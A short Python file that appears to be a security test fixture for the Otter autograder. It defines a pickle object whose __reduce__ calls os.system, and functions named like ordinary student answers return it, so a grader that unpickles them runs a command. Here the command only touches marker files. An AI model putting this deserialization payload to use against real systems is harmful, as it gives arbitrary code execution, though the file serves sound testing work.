"""Objects whose __reduce__ runs a command where they are unpickled.

against: otter
"""
import os
import pickle


class Reduce:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/LEFT-@TOKEN@-pickle /tmp/LEFT-@TOKEN@-pickle",)


def softmax(x):
    print("TRIED")
    return Reduce()


def caption(n):
    return pickle.dumps(Reduce())


def halves(x):
    return [pickle.dumps(Reduce()), Reduce()]
